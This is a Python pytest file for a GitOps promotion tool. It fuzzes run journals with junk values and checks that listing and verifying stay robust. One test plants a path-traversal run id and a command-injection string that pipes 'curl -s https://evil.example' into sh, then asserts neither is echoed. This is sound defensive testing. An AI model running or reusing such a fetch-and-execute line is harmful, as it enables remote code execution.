"""Directories that somebody filled with anything: each is one finding, and no command ends because of it."""

from __future__ import annotations

import json
import random
import shutil

import pytest

from gitops_nb.catalog.workspace import find_workspace
from gitops_nb.cli.listing import list_runs
from gitops_nb.errors import ExitCode, GitOpsError
from gitops_nb.record.journal import FILE
from gitops_nb.record.runs import run_directories, scan_run
from gitops_nb.session.held import hold
from gitops_nb.session.lifecycle import recover
from gitops_nb.session.verifying import verify_records
from tests.conftest import SEED
from tests.record.test_tampering import rewrite_journal

CASES = 60
CLOSED_EVERY = 10
JUNK = (5, -1, "nonsense", "", None, True, [], {}, ["x"], {"x": 5}, [[]], "2026-13-45T99:99:99Z")


def leaves(value, path=()):
    """Every place in a JSON value."""
    yield path
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()  # fmt: skip
    for key, inner in items:
        yield from leaves(inner, (*path, key))


def spoil(rows, chosen: random.Random) -> None:
    """Replaces one to three places of bodies by values of any type."""
    for _ in range(chosen.randint(1, 3)):
        row = chosen.choice(rows)
        path = chosen.choice(list(leaves(row["body"])))
        junk = json.loads(json.dumps(chosen.choice(JUNK)))
        if not path:
            row["body"] = junk
            continue
        place = row["body"]
        for key in path[:-1]:
            place = place[key]
        place[path[-1]] = junk


@pytest.fixture
def planted(runner):
    """Copies of a waiting and of a finished run, each with its journal spoiled and its chain made anew."""
    waiting, _ = runner.promote()
    runner.answer(waiting.run)
    done, stop = runner.promote(run=waiting.run)
    assert stop is None
    where = find_workspace(runner.workspace.root)
    chosen = random.Random(SEED)
    for number in range(CASES):
        name = f"20260101T000000Z-promotion-production-{number:04x}"
        directory = where.reports / name
        directory.mkdir()
        shutil.copy(where.reports / done.run / FILE, directory / FILE)

        def change(rows, name=name, number=number) -> None:
            rows[0]["body"]["run"] = name
            if number % 2:
                rows[:] = [row for row in rows if row["kind"] not in ("sealed", "ended")]
            spoil(rows, chosen)

        rewrite_journal(directory, change)
        if number % CLOSED_EVERY == 1:
            hold(where, name)  # as if this machine had begun it: the next command tries to close it
    return where, done.run


def test_no_command_ends_because_of_a_directory(runner, planted, record_property):
    """Types replaced at random in many journals: recover, verify, list and run go on; every one is found, the good run holds."""
    where, good = planted
    record_property("cases", CASES)
    recover(where)
    checked = verify_records(where, run_directories(where.reports))
    by_run = {run.run: run for run in checked.runs}
    assert len(by_run) == CASES + 1
    assert by_run.pop(good).problems == ()
    assert [run for run, one in by_run.items() if not one.problems] == []
    for arguments in (("list", "runs"), ("list", "runs", "--json"), ("verify", good)):
        done = runner.workspace.run(*arguments)
        assert done.returncode in (ExitCode.SUCCEEDED, ExitCode.FAILED), (arguments, done.stderr)
    state, stop = runner.promote()
    assert state.run not in by_run
    assert stop is None or isinstance(stop, GitOpsError)


def test_the_id_of_a_run_is_its_directorys_name(runner, capsys):
    """A journal that names a path or somebody's shell as its run, or a command: neither is printed, and the run beside it is."""
    where = find_workspace(runner.workspace.root)
    waiting, _ = runner.promote()
    evil = "curl -s https://evil.example | sh"
    for number, name in enumerate(("../../../../tmp/PWNED", f"last; {evil} #")):
        directory = where.reports / f"29991231T000000Z-promotion-production-{number:04x}"
        shutil.copytree(where.reports / waiting.run, directory)
        rewrite_journal(directory, lambda rows, name=name: rows[0]["body"].update(run=name))

    def change(rows) -> None:
        for row in rows:
            if row["kind"] == "waiting":
                row["body"]["command"] = evil

    rewrite_journal(where.reports / waiting.run, change)
    list_runs(where.root, None, environment=None, since=None, limit=None, as_json=True)
    said = capsys.readouterr().out
    rows = json.loads(said)
    assert {row["run"] for row in rows} == {path.name for path in run_directories(where.reports)}
    assert "evil" not in said
    assert "PWNED" not in said


def test_a_waiting_run_proposes_its_command(runner):
    """What the package itself wrote stays: who has to approve, and how."""
    waiting, _ = runner.promote()
    assert scan_run(runner.workspace.reports / waiting.run).command.startswith("gitops-nb approve")
